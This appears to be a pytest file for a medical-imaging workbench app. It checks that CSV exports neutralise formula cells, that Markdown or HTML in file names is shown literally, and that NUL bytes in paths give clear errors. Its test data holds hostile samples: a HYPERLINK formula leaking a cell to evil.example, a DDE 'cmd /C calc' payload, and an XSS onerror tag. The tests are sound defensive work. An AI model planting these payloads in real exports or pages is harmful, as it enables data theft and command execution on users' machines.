"""Injection through names and typed paths (issue 13, defect 12).

- CSV exports: a cell starting with = + - @ (or tab / CR) is neutralised, numbers stay numbers.
- A file name holding Markdown or HTML is shown literally on the pages.
- A NUL byte in a typed path is a clear message, not a ValueError traceback.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import string
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest
from conftest import PROJECT_ROOT

from core.safetext import escape_markdown, neutralise_cell, neutralise_frame

FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
            "\r=1+1"]
HOSTILE_NAMES = [
    "![x](https://evil.example/pixel.png).png",
    "[click me](https://evil.example).jpg",
    "<img src=x onerror=alert(1)>.png",
    "**bold** _it_ `code` # head.png",
    ":red[alarm] :material/warning: $x^2$.png",
    "line\nbreak | table | ~~gone~~.png",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_are_neutralised(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["glioma", "scan 1.png", "", 0.5, -1, None, "a=b"])
def test_other_cells_are_left_alone(value):
    assert neutralise_cell(value) == value


def test_frame_neutralises_text_but_keeps_numbers():
    frame = pd.DataFrame({"file": FORMULAS[:2], "train_distance": [-1, 3], "confidence": [-0.5, 0.9],
                          "overlap": [False, True]})
    out = neutralise_frame(frame)
    assert out["file"].tolist() == ["'" + f for f in FORMULAS[:2]]
    assert out["train_distance"].tolist() == [-1, 3] and out["confidence"].tolist() == [-0.5, 0.9]
    assert frame["file"].tolist() == FORMULAS[:2]  # the caller's frame is not modified


def _first_cells(data: bytes) -> list[str]:
    return [row[0] for row in csv.reader(io.StringIO(data.decode("utf-8")))][1:]


def test_predict_results_csv_is_neutralised():
    from core.inference.predict import PredictionResult
    from core.reports.case_report import results_csv

    results = [PredictionResult(file=name, error="-not an image") for name in FORMULAS]
    data = results_csv(results, ["glioma", "notumor"])
    assert _first_cells(data) == ["'" + f for f in FORMULAS]
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    assert all(row["error"] == "'-not an image" for row in rows)


def test_evaluation_predictions_csv_is_neutralised():
    from core.reports.eval_report import predictions_csv

    predictions = pd.DataFrame({"file": ["glioma/=cmd|' /C calc'!A0.png", "notumor/ok.png"], "true": ["glioma"] * 2,
                                "predicted": ["glioma"] * 2, "confidence": [0.9, 0.8], "train_distance": [-1, -1]})
    predictions.loc[0, "file"] = "=cmd|' /C calc'!A0.png"
    back = pd.read_csv(io.BytesIO(predictions_csv(SimpleNamespace(predictions=predictions))))
    assert back["file"].tolist() == ["'=cmd|' /C calc'!A0.png", "notumor/ok.png"]
    assert back["train_distance"].tolist() == [-1, -1]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_escaped_names_show_literally(name):
    escaped = escape_markdown(name)
    assert re.sub(r"\\(.)", r"\1", escaped) == " ".join(name.split("\n"))  # nothing lost but the line break
    unescaped = re.sub(r"\\.", "", escaped)
    assert not any(c in string.punctuation for c in unescaped), escaped  # every mark is literal
    assert "\n" not in escaped


# --- pages ---------------------------------------------------------------------------------------------------

@pytest.fixture
def app_env(isolated_workbench_dirs: dict, demo_root: Path, monkeypatch: pytest.MonkeyPatch) -> dict:
    from core.data.demo import DEMO_VERSION

    monkeypatch.syspath_prepend(str(PROJECT_ROOT))
    cache = isolated_workbench_dirs["cache"]
    cache.mkdir(parents=True, exist_ok=True)
    shutil.copytree(demo_root, cache / f"demo-v{DEMO_VERSION}-seed0")
    return isolated_workbench_dirs


def test_nul_byte_in_the_explorer_folder_is_a_clear_message(app_env):
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(PROJECT_ROOT / "pages" / "1_Dataset_Explorer.py"), default_timeout=120).run()
    at.radio(key="explorer_source").set_value("folder").run()
    at.text_input(key="explorer_folder").input("/data/brain\0mri").run()
    at.button(key="explorer_open_folder").click().run()
    assert not at.exception, at.exception
    assert any("NUL character" in e.value for e in at.error), [e.value for e in at.error]


@pytest.mark.slow
def test_nul_byte_in_the_evaluate_folder_is_a_clear_message(app_env, tiny_run):
    from streamlit.testing.v1 import AppTest

    shutil.copytree(tiny_run.path, app_env["models"] / tiny_run.run_id)
    at = AppTest.from_file(str(PROJECT_ROOT / "pages" / "4_Evaluate.py"), default_timeout=120).run()
    at.radio(key="evaluate_kind").set_value("folder").run()
    at.text_input(key="evaluate_folder").input("/data/x\0y").run()
    assert not at.exception, at.exception
    assert any("NUL character" in e.value for e in at.error), [e.value for e in at.error]


@pytest.mark.slow
def test_predict_page_shows_a_markdown_file_name_literally(tiny_registry, app_env):
    from conftest import encode, smooth_image
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(PROJECT_ROOT / "pages" / "5_Predict_and_Explain.py"), default_timeout=180).run()
    png = encode(smooth_image(3, 40))
    at.file_uploader(key="predict_uploads").set_value([(name, png, "image/png") for name in HOSTILE_NAMES[:3]])
    at.run()
    assert not at.exception, at.exception
    shown = [m.value for m in at.markdown if m.value.startswith("**")]
    for name in HOSTILE_NAMES[:3]:
        assert f"**{escape_markdown(name)}**" in shown, shown
    for m in shown:  # between the bold marks, no Markdown or HTML character is left unescaped
        assert not set(re.sub(r"\\.", "", m[2:-2])) & set("[]()<>!"), m
